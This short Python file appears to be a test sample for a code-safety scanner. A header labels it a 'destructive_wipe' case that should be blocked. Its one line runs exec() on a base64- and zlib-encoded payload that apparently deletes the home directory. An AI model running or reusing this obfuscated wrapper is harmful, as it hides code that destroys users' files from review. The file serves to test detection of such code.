# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/walk_delete_home.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxVjb0OwjAMhPc8hVWWRKr6AEiMzAwMzBFx1UAaR3Yo7cKzk7QCxE3+ue9uBxcb7gJ5QBhoROgpOGSw0YHDgBkFcEJeoPcBO+XHRJyBRKnVfihjl2weOpxTgR6CrJtXY1RPDEyUW3CepV15AR8r8CyduvJmr6CoeqMtceW9+rZzVeblt1QVnHGkCfWn+UY+6q2qhhjz9eN8xZThdD4yE//nJCvyBjUGTeE=')))
